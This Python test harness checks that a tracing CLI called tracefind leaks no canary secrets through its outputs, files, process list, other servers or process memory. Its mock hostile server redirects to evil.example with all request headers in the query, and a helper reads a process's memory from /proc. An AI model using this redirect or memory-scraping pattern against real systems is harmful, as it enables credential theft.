#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Secrets in every place that takes one: each reaches the server that it is for
and nothing else. Output is TAP.

usage: canary.py TRACEFIND [STOP.SO] [--all]

The server plays along, refuses, or answers with what it was sent, as it is, in
base64 and percent-encoded. Searched afterwards: what the run said, with -v; the
files it left, cases and caches unpacked; its line in the process list; what the
other server and a proxy heard; and, with STOP.SO (stop.c), the memory of the
process when all of it has run, in which what stop.c left has to be found, too.
Libraries' own copies of keys are not looked for: private keys of client
certificates are read by libcurl's TLS library.

A case file of a stranger's browser may hold secrets, too: it is replayed, whole
and cut short, and what the run said and wrote is searched; not its memory, where
the file is.

The cases of tests/cli that log in to Google Cloud are run so as well; what is
secret in them has "canary" in it, or begins as tokens do.
"""
import argparse
import base64
import gzip
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
from pathlib import Path
from urllib.parse import quote

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "cli"))
import run as cli
import wire
from trial import HANG_S, TESTDATA, environment, try_all

# With signs that every encoding writes in another way.
ENDS = {"traces": "Ca/nA+rY~7f3a9c1e5b", "profiles": "Ca+nA/rY~51b0d2e8f4a",
        "header": "Ca~nA/rY+88e1f4c2a6d", "theirs": "Ca/nA~rY+0d9b7c3e1f5"}

RECORDED = TESTDATA / "cases/pyroscope-1.21-slow.har.gz"

# What stop.c leaves.
MARKS = [b"stop.c was in the data", b"stop.c was on the heap",
         b"stop.c was in a map"]


def spellings(secret):
    """The forms that would give it away, as bytes, each with its name."""
    plain = secret.encode()
    yield "plain", plain
    yield "percent", quote(secret, safe="").encode()
    yield "percent, small", re.sub(
        "%..", lambda found: found[0].lower(), quote(secret, safe="")).encode()
    yield "hex", plain.hex().encode()
    # Within something longer only whole groups of three bytes are certain.
    for shift in range(3):
        coded = base64.b64encode(b"x" * shift + plain)
        sure = coded[4 if shift else 0:(shift + len(plain)) // 3 * 4]
        yield f"base64, {shift}", sure
        yield f"base64 of URLs, {shift}", sure.translate(
            bytes.maketrans(b"+/", b"-_"))


class Slot:
    """fill(place) gives the arguments, environment and files of one way to
    hand a secret over. server: which one it is for, or None; words: what that
    one hears of it."""

    def __init__(self, title, fill, server, words="{secret}"):
        self.title, self.fill = title, fill
        self.server, self.words = server, words


def file_of(place, name, text):
    path = place.folder / name
    path.write_text(text + "\n")
    path.chmod(0o600)
    place.given.add(path)
    return path


def settings(place, text):
    folder = place.folder / ".config" / "tracefind"
    folder.mkdir(parents=True)
    file_of(place, ".config/tracefind/config", text)
    return [], {}


def slots():
    bearer, own = "Bearer {secret}", ENDS["header"]
    for side in ("traces", "profiles"):
        secret, upper = ENDS[side], side.upper()
        basic = "Basic " + base64.b64encode(f"ann:{secret}".encode()).decode()
        yield Slot(f"--{side}-token-file", lambda p, side=side, secret=secret: (
            [f"--{side}-token-file={file_of(p, 'token', secret)}"], {}),
            side, bearer)
        yield Slot(f"--{side}-password-file",
                   lambda p, side=side, secret=secret: ([
                       f"--{side}-username=ann", f"--{side}-password-file="
                       f"{file_of(p, 'password', secret)}"], {}), side, basic)
        yield Slot(f"--{side}-header", lambda p, side=side: (
            [f"--{side}-header=X-Api-Key: {own}"], {}), side, own)
        yield Slot(f"--{side}-header Authorization",
                   lambda p, side=side, secret=secret: (
                       [f"--{side}-header", f"Authorization: Bearer {secret}"],
                       {}), side, bearer)
        yield Slot(f"TRACEFIND_{upper}_TOKEN",
                   lambda p, upper=upper, secret=secret: (
                       [], {f"TRACEFIND_{upper}_TOKEN": secret}), side, bearer)
        yield Slot(f"TRACEFIND_{upper}_PASSWORD",
                   lambda p, upper=upper, secret=secret: (
                       [], {f"TRACEFIND_{upper}_PASSWORD": secret,
                            f"TRACEFIND_{upper}_USERNAME": "ann"}), side, basic)
        yield Slot(f"{side}-token-command", lambda p, side=side, secret=secret:
                   settings(p, f"{side}-token-command = cat "
                            f"{file_of(p, 'token', secret)}"), side, bearer)
        yield Slot(f"{side}-token-file of the configuration",
                   lambda p, side=side, secret=secret: settings(
                       p, f"{side}-token-file = "
                       f"{file_of(p, 'token', secret)}"), side, bearer)
        yield Slot(f"{side}-password-file of the configuration",
                   lambda p, side=side, secret=secret: settings(
                       p, f"{side}-username = ann\n{side}-password-file = "
                       f"{file_of(p, 'password', secret)}"), side, basic)
        yield Slot(f"{side}-header of the configuration",
                   lambda p, side=side: settings(
                       p, f"{side}-header = X-Api-Key: {own}"), side, own)
    secret = ENDS["profiles"]
    basic = "Basic " + base64.b64encode(f"ann:{secret}".encode()).decode()
    yield Slot("PROFILECLI_TOKEN", lambda p: (
        [], {"PROFILECLI_TOKEN": secret}), "profiles", bearer)
    yield Slot("PROFILECLI_PASSWORD", lambda p: (
        [], {"PROFILECLI_PASSWORD": secret, "PROFILECLI_USERNAME": "ann"}),
        "profiles", basic)
    for name, text, server in (
            ("TRACEFIND_HEADER", f"X-Api-Key: {own}", "both"),
            ("TRACEFIND_TRACES_HEADER", f"X-Api-Key: {own}", "traces"),
            ("TRACEFIND_PROFILES_HEADER", f"X-Api-Key: {own}", "profiles"),
            ("TRACEFIND_TRACES_URL", "tempo+http://ann:{}@127.0.0.1:1", None),
            ("TRACEFIND_TRACES_URL", "tempo+http://127.0.0.1:1/?t={}", None),
            ("TRACEFIND_PROFILES_URL", "http://ann:{}@127.0.0.1:1", None),
            ("PROFILECLI_URL", "http://ann:{}@127.0.0.1:1", None)):
        yield Slot(f"{name} {text.split(':')[0]}", lambda p, name=name,
                   text=text.format(quote(ENDS["traces"], safe="")): (
                       [], {name: text}), server, own)
    for key in ("traces-url", "profiles-url"):
        yield Slot(f"a login in {key} of the configuration", lambda p, key=key:
                   settings(p, f"{key} = http://ann:"
                            f"{quote(ENDS['traces'], safe='')}@127.0.0.1:1"),
                   None)
    for title, login in (("a login", quote(ENDS["traces"], safe="")),
                         ("a raw login", ENDS["traces"])):
        yield Slot(f"{title} in an address", lambda p, login=login: (
            [f"--traces-url=tempo+http://ann:{login}@127.0.0.1:1"], {}), None)
    yield Slot("a token in an address", lambda p: (
        [f"--traces-url=tempo+http://127.0.0.1:1/?token={ENDS['traces']}"],
        {}), None)
    yield Slot(".netrc", lambda p: file_of(
        p, ".netrc", f"machine 127.0.0.1 login ann password {ENDS['traces']}\n"
        f"default login ann password {ENDS['traces']}") and ([], {}), None)
    proxy = f"http://ann:{quote(ENDS['traces'], safe='')}@{{proxy}}"
    basic = base64.b64encode(f"ann:{ENDS['traces']}".encode()).decode()
    yield Slot("--traces-proxy", lambda p: (
        [f"--traces-proxy={proxy.format(proxy=p.proxy.host)}"], {}), "proxy",
        f"Basic {basic}")
    yield Slot("TRACEFIND_TRACES_PROXY", lambda p: (
        [], {"TRACEFIND_TRACES_PROXY": proxy.format(proxy=p.proxy.host)}),
        "proxy", f"Basic {basic}")
    yield Slot("traces-proxy of the configuration", lambda p: settings(
        p, f"traces-proxy = {proxy.format(proxy=p.proxy.host)}"), "proxy",
        f"Basic {basic}")
    for name, server in (("TRACEFIND_PROXY", "proxy"),
                         ("http_proxy", None)):  # not for this machine
        yield Slot(name, lambda p, name=name: (
            [], {name: proxy.format(proxy=p.proxy.host)}), server,
            f"Basic {basic}")
    yield Slot("TRACEFIND_TOKEN", lambda p: (
        [], {"TRACEFIND_TOKEN": ENDS["traces"]}), "both", bearer)
    yield Slot("TRACEFIND_PASSWORD", lambda p: (
        [], {"TRACEFIND_PASSWORD": ENDS["traces"],
             "TRACEFIND_USERNAME": "ann"}), "both", f"Basic {basic}")
    yield Slot("two at once", lambda p: (
        [f"--token-file={file_of(p, 'token', ENDS['traces'])}",
         f"--header=X-Api-Key: {own}"], {}), "both", own)
    yield Slot("too long a header", lambda p: (
        [f"--header=X-Api-Key {own}"], {}), None)
    yield Slot("a token of two lines", lambda p: (
        [f"--token-file={file_of(p, 'token', ENDS['traces'] + chr(7))}"], {}),
        None)


def echo_lines(request):
    """Headers with all that the request had."""
    for name, value in request.headers.items():
        yield f"X-Was-{name}: {value}"
    secret = " ".join(request.headers.values())
    yield f"Location: http://evil.example/?q={quote(secret, safe='')}"
    yield f"Set-Cookie: was={quote(secret, safe='')}"


def echo_body(request):
    text = request.head.decode("latin-1")
    values = list(request.headers.values())
    return "\n".join([text, base64.b64encode(text.encode()).decode(),
                      quote(text, safe=""), *map(quote, values),
                      *(base64.b64encode(v.encode()).decode()
                        for v in values)])


def echo(status):
    """A refusal that repeats all it was sent."""
    def act(link, request):
        # On one line: of others an error does not tell.
        told = echo_body(request).replace("\n", " ").replace("\r", "")
        link.send(wire.Answer(0, "text/plain", b"").head(
            *echo_lines(request), f"Content-Length: {len(told)}",
            status=f"{status} No"), told)
        return True
    return act


class Place:
    """The servers, of which the `bad` one behaves like mode, and the folder
    that a run has for its home."""

    def __init__(self, folder, mode, bad, recorded):
        self.folder, self.given, self.mode = Path(folder), set(), mode

        def serve(name):
            is_good = mode == "good" or bad not in (name, "both", None)
            return wire.Wire(wire.good(recorded) if is_good else echo(mode))
        self.traces, self.profiles = serve("traces"), serve("profiles")
        self.proxy = serve("proxy")
        self.servers = {"traces": self.traces, "profiles": self.profiles,
                        "proxy": self.proxy}

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for server in self.servers.values():
            server.__exit__()

    def written(self):
        """What the run left behind, unpacked."""
        for path in sorted(self.folder.rglob("*")):
            if path.is_file() and path not in self.given:
                data = path.read_bytes()
                packed = data.find(b"\x1f\x8b")
                yield str(path.relative_to(self.folder)), data
                if packed >= 0:
                    try:
                        yield path.name, gzip.decompress(data[packed:])
                    except (OSError, EOFError):
                        pass

    def elsewhere(self, server):
        """What those heard that the secret is not for."""
        for name, other in self.servers.items():
            if name != server and not (server == "both" and name != "proxy"):
                yield f"what {name} heard", b"".join(other.heard)


def memory(pid):
    """All that the process may write to."""
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, \
            open(f"/proc/{pid}/mem", "rb") as mem:
        for line in maps:
            span, rights, *names = line.split()
            if not rights.startswith("rw"):
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            mem.seek(start)
            yield f"memory {names[3:]}", mem.read(end - start)


class Run:
    """One run to its end, with its memory there when it can be had."""

    def __init__(self, program, args, env, cwd, stop):
        env = {**env, **({"LD_PRELOAD": stop} if stop else {})}
        self.left, self.line = [], b""
        with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
            process = subprocess.Popen([program, *args], env=env, cwd=cwd,
                                       stdin=subprocess.DEVNULL, stdout=out,
                                       stderr=err)
            try:
                if stop:
                    self.look(process.pid, args)
            finally:
                # One that nobody stopped may be waited for by a sanitizer's
                # tracer, whose stop this would take back.
                if stop:
                    process.send_signal(signal.SIGCONT)
                process.wait(HANG_S)
            out.seek(0)
            err.seek(0)
            self.out, self.err = out.read(), err.read()
        self.status = process.returncode

    def look(self, pid, args):
        """When it has stopped at its end, which is left to be waited for."""
        found = os.waitid(os.P_PID, pid, os.WSTOPPED | os.WEXITED | os.WNOWAIT)
        if found.si_code != os.CLD_STOPPED:
            raise RuntimeError("it ended without being stopped")
        self.left = list(memory(pid))
        self.line = Path(f"/proc/{pid}/cmdline").read_bytes()
        for mark in (*MARKS, args[-1].encode()):
            if not any(mark in data for _, data in self.left):
                raise RuntimeError(f"no {mark!r} in its memory")
        if args[-1].encode() not in self.line:
            raise RuntimeError(f"its line is {self.line!r}")


def judge_by(program, stop, recorded):
    def judge(job):
        slot, mode = job
        with tempfile.TemporaryDirectory(prefix="tracefind-") as folder, \
                Place(folder, mode, slot.server, recorded) as place:
            args, env = slot.fill(place)
            urls = [f"--traces-url=tempo+{place.traces.url}",
                    f"--profiles-url=pyroscope+{place.profiles.url}"]
            urls = [url for url in urls if not named_already(
                url.partition("=")[0][2:], args, env, place)]
            done = Run(program, [
                *recorded.args, *urls, *args, "-vv", "--timeout=20s",
                "--retry=0", "--record=case.har.gz", "--cache"],
                {**environment(recorded.now), "HOME": folder, **env}, folder,
                stop)
            return complaint(slot, place, done)
    return judge


def named_already(option, args, env, place):
    """Whether the slot itself names the address."""
    variable = "TRACEFIND_" + option.upper().replace("-", "_")
    return (any(arg.startswith(f"--{option}=") for arg in args) or
            variable in env or
            option == "profiles-url" and "PROFILECLI_URL" in env or
            any(f"{option} =" in path.read_text() for path in place.given))


def complaint(slot, place, done):
    if done.status < 0:
        return f"killed by signal {-done.status}"
    heard = {name: b"".join(server.heard)
             for name, server in place.servers.items()}
    if slot.server:
        name = "traces" if slot.server == "both" else slot.server
        words = slot.words.format(secret=ENDS.get(name, "")).encode()
        if words not in heard[name]:
            return f"{name} did not get it: {done.err[:300]}"
        if (slot.server == "both" and place.mode == "good" and
                words not in heard["profiles"]):
            return f"profiles did not get it: {done.err[:300]}"
    return found_in([("stdout", done.out), ("stderr", done.err),
                     ("the process list", done.line), *place.written(),
                     *place.elsewhere(slot.server), *done.left])


def found_in(texts):
    """Secrets in pairs of a name and bytes, or None."""
    found = [f"{how} in {where}" for where, data in texts
             for secret in ENDS.values()
             for how, form in spellings(secret) if form in data]
    return "; ".join(found[:6]) if found else None


def with_secrets(case):
    """A case file as a browser's may be: logins, cookies and remarks."""
    har = json.loads(gzip.decompress(case.read_bytes()))
    secret = ENDS["theirs"]
    cookie = {"name": "session", "value": secret}
    har["log"]["comment"] = har["log"]["_page"] = secret
    for entry in har["log"]["entries"]:
        entry["comment"] = entry["_initiator"] = secret
        entry["request"]["headers"] += [
            {"name": "Authorization", "value": f"Bearer {secret}"},
            {"name": "Cookie", "value": f"session={secret}"},
            {"name": "X-Api-Key", "value": secret}]
        entry["response"]["headers"] += [
            {"name": "Set-Cookie", "value": f"session={secret}"},
            {"name": "X-Was-Authorization", "value": f"Bearer {secret}"}]
        entry["request"]["cookies"] = entry["response"]["cookies"] = [cookie]
    return har


# Lines of a configuration with secrets, and of Grafana's data sources.
CONFIG = f"""current-context = a
traces-header = X-Api-Key: {ENDS["header"]}
[context "a"]
\tprofiles-header = Authorization: Bearer {ENDS["profiles"]}
\ttraces-url = http://127.0.0.1:1
"""
GRAFANA = f"""datasources:
  - name: Tempo
    type: tempo
    url: http://ann:{quote(ENDS["traces"], safe="")}@127.0.0.1:1
    basicAuth: true
    basicAuthUser: ann
    jsonData:
      httpHeaderName1: Authorization
    secureJsonData:
      basicAuthPassword: {ENDS["profiles"]}
      httpHeaderValue1: Bearer {ENDS["header"]}
  - name: Jaeger
    type: jaeger
    url: http://127.0.0.1:1/?token={quote(ENDS["theirs"], safe="")}
"""
CONFIG_ACTIONS = ["list", "view", "view --origin", "get traces-header",
                  "get --context a profiles-header", "get tenant-id",
                  "set tenant-id shop", "set traces-url http://127.0.0.1:2",
                  "set --context b traces-url http://127.0.0.1:2", "use a",
                  "use b", "import grafana grafana.yaml"]


def judge_config(program, stop, action):
    """The configuration itself keeps what stands in it. An import's memory is
    not searched: the YAML library keeps what it has read."""
    is_import = action.startswith("import")
    with tempfile.TemporaryDirectory(prefix="tracefind-") as folder:
        config = Path(folder, ".config", "tracefind", "config")
        given = Path(folder, "grafana.yaml")
        config.parent.mkdir(parents=True)
        given.write_text(GRAFANA)
        if not is_import:
            config.write_text(CONFIG)
        done = Run(program, ["config", *action.split()],
                   {**environment("2026-11-22T00:00:00Z"), "HOME": folder},
                   folder, None if is_import else stop)
        texts = [("stdout", done.out), ("stderr", done.err), *done.left]
        if is_import:
            texts.append(("the configuration", config.read_bytes()))
    wrong = action in ("get tenant-id", "use b")
    if bool(done.status) != wrong:
        return f"status {done.status}: {done.err[:300]}"
    return found_in(texts)


CASE_OUTPUTS = ["json", "html", "svg", "markdown", "pprof", "csv"]


def judge_case(program, case, lacking):
    """lacking: how many requests the file has too few."""
    with tempfile.TemporaryDirectory(prefix="tracefind-") as folder:
        har, path = with_secrets(case), Path(folder, "case.har")
        entries = har["log"]["entries"]
        del entries[len(entries) - lacking:]
        path.write_text(json.dumps(har))
        # One at a time: not all of them can be had of a run that lacks some.
        for form in CASE_OUTPUTS:
            done = Run(program, ["--replay=case.har", "-vv", "-o",
                                 f"{form}=out.{form}"],
                       {**environment("2026-11-22T00:00:00Z"), "HOME": folder},
                       folder, None)
            written = [(file.name, file.read_bytes())
                       for file in Path(folder).iterdir() if file != path]
            if what := found_in([("stdout", done.out), ("stderr", done.err),
                                 *written]):
                return what
            if bool(done.status) != bool(lacking) or (
                    not lacking and not written):
                return f"status {done.status}: {done.err[:300]}"
    return None


GOOGLE_CASES = ["credentials/user", "credentials-federated/file",
                "credentials-federated/url", "credentials/acting",
                "credentials/renewed", "signed/key", "signed/itself",
                "signed/acting"]
GOOGLE_MARKS = [b"canary", b"ya29."]
# A signed token's parts begin so; these three bytes alone are among any million.
SIGNED = re.compile(rb"eyJ[\w-]{12}")


def judge_google(program, stop, case):
    """A case of tests/cli, and what it leaves in memory."""
    with tempfile.TemporaryDirectory(prefix="tracefind-") as tmp:
        tmp = os.path.realpath(tmp)
        names = cli.names_for(tmp)
        with cli.served(case, names):
            given = cli.furnish(case, names, tmp)
            done = Run(program, [
                *cli.words_of(case.command, names), "-vq", "--cache"],
                cli.environment(case, names, tmp), tmp, stop)
        written = [(path.name, path.read_bytes())
                   for path in Path(tmp).rglob("*")
                   if path.is_file() and path not in given]
    if done.status:
        return f"status {done.status}: {done.err[:300]}"
    marks = GOOGLE_MARKS + [line.encode() for line in cli.read(
        cli.ROBOT_KEY).splitlines() if "-" not in line]
    # Shorter pieces are found in anything.
    marks += [form for _, form in spellings("canary") if len(form) > 5]
    found = [f"{mark.decode()[:12]} in {where}" for where, data in
             [("stdout", done.out), ("stderr", done.err), *written,
              *done.left]
             for mark in marks + SIGNED.findall(data) if mark in data]
    return "; ".join(found[:6]) if found else None


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("program")
    parser.add_argument("stop", nargs="?")
    parser.add_argument("--all", action="store_true")
    options = parser.parse_args()
    program = str(Path(options.program).resolve())
    stop = options.stop and str(Path(options.stop).resolve())
    recorded = wire.Recorded(RECORDED)
    modes = ["good", 400, 401, 403, 302, 500]
    trials = []
    for number, slot in enumerate(slots()):
        for index, mode in enumerate(modes):
            if options.all or index == 0 or index == 1 + number % 5:
                trials.append((f"{slot.title}, {mode}", (slot, mode)))
    judge = judge_by(program, stop, recorded)
    trials = [(title, lambda job=job: judge(job)) for title, job in trials]
    trials += [(name, lambda name=name:
                judge_google(program, stop, cli.cases.find(name)))
               for name in GOOGLE_CASES]
    trials += [(f"a case file, {lacking} requests missing",
                lambda lacking=lacking: judge_case(program, RECORDED, lacking))
               for lacking in (0, 1, 2)]
    trials += [(f"config {action}",
                lambda action=action: judge_config(program, stop, action))
               for action in CONFIG_ACTIONS]
    return try_all("secrets", trials, lambda trial: trial(), parallel=6)


if __name__ == "__main__":
    sys.exit(main())
